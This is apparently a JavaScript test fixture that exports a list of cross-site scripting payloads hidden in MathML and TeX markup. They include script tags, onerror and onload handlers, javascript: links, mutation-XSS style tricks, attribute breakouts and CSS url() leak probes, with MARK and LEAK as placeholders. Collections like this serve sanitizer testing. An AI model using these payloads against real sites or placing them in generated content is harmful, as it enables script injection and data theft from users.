// MathML, and formulas in TeX.
export default String.raw`
<math><mtext><img src=x onerror=MARK></mtext></math>
<math><mtext><script>MARK</script></mtext></math>
<math href="javascript:MARK" class=auto>click</math>
<math><mi href="javascript:MARK" class=auto>x</mi></math>
<math><mrow xlink:href="javascript:MARK" class=auto><mi>x</mi></mrow></math>
<math><a href="javascript:MARK" class=auto><mi>x</mi></a></math>
<math><maction actiontype="statusline#x" xlink:href="javascript:MARK" class=auto>x</maction></math>
<math><maction actiontype=toggle onclick=MARK><mi>x</mi><mi>y</mi></maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=MARK></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>MARK</script></annotation-xml></math>
<math><semantics><mi>x</mi><annotation-xml encoding=text/html><iframe srcdoc="<script>parent.MARK</script>"></iframe></annotation-xml></semantics></math>
<math><semantics><mi>x</mi><annotation encoding="application/x-tex">\href{javascript:MARK}{x}</annotation></semantics></math>
<math><semantics><mi>x</mi><annotation encoding="application/x-tex"></annotation><img src=x onerror=MARK></semantics></math>
<math><semantics><mi>x</mi><annotation encoding="application/x-tex">&lt;/annotation&gt;&lt;img src=x onerror=MARK&gt;</annotation></semantics></math>
<math><annotation encoding="text/html">&lt;img src=x onerror=MARK&gt;</annotation></math>
<math><mglyph><svg><mtext><style><img src=x onerror=MARK></style></mtext></svg></mglyph></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=MARK&gt;">
<math><mtext><mglyph><style><img src=x onerror=MARK></style></mglyph></mtext></math>
<math><mtext><malignmark><img src=x onerror=MARK></malignmark></mtext></math>
<math><style><img src=x onerror=MARK></style></math>
<math><style><!--</style><img src=x onerror=MARK>--></math>
<math><mi><svg onload=MARK></svg></mi></math>
<math><mo><p><style></p><img src=x onerror=MARK></style></p></mo></math>
<math><ms lquote='"' rquote='"><img src=x onerror=MARK>'>x</ms></math>
<math><mpadded width="1em onload=MARK" height='"><img src=x onerror=MARK>'><mi>x</mi></mpadded></math>
<math><mstyle style="background:url(LEAK)" mathbackground="url(LEAK)"><mi>x</mi></mstyle></math>
<math><menclose notation='"><script>MARK</script>'><mi>x</mi></menclose></math>
<math display='block" onload="MARK'><mi>x</mi></math>
<math altimg=LEAK altimg-width=9><mi>x</mi></math>
<math><mfenced open='"><img src=x onerror=MARK>' close=">"><mi>x</mi></mfenced></math>
<math><mi mathvariant='normal"><img src=x onerror=MARK>'>x</mi></math>
<math><mtable rowalign='"onload=MARK'><mtr><mtd><img src=x onerror=MARK></mtd></mtr></mtable></math>
<math><none onload=MARK /><mprescripts onload=MARK /></math>
<math><mlabeledtr><mtd><script>MARK</script></mtd></mlabeledtr></math>
\(<img src=x onerror=MARK>\)
\[ \href{javascript:MARK}{x} \]
$$ \url{javascript:MARK} <script>MARK</script> $$
$$ \htmlData{onload=MARK}{x} \includegraphics{LEAK} $$
\( \unicode{<img src=x onerror=MARK>} \class{x" onload="MARK}{y} \)
\( \href{data:text/html,<script>MARK</script>}{x} \html{<img src=x onerror=MARK>} \)
\( \htmlClass{x" onclick="MARK}{y} \htmlStyle{background:url(LEAK)}{z} \htmlId{attributes}{w} \)
\[ \require{html} \style{background:url(LEAK)}{x} \cssId{body}{y} \]
$$ \text{</math><img src=x onerror=MARK>} \verb|<img src=x onerror=MARK>| $$
$$ \def\x{\href{javascript:MARK}}\x{y} \newcommand{\z}{<script>MARK</script>} $$
<script type="math/tex">\href{javascript:MARK}{x}</script>
<script type="math/tex; mode=display"></script><img src=x onerror=MARK>
<script type="math/mml"><math><mtext><img src=x onerror=MARK></mtext></math></script>
<script type="math/mml">&lt;math&gt;&lt;script&gt;MARK&lt;/script&gt;</script>
<span class=katex><span class=katex-mathml><math><semantics><mi>x</mi><annotation encoding="application/x-tex"><img src=x onerror=MARK></annotation></semantics></math></span></span>
<mjx-container><svg data-latex='"><img src=x onerror=MARK>'></svg></mjx-container>
<span class="math inline" data-latex="&lt;script&gt;MARK&lt;/script&gt;" title="&lt;img src=x onerror=MARK&gt;">x</span>
<img class=latex alt='$"><script>MARK</script>$' src=x onerror=MARK>
<img class=mwe-math-fallback-image-inline alt="{\displaystyle <img src=x onerror=MARK>}" src=/picture.png>`.trim().split(/\n(?=[<\\$])/);
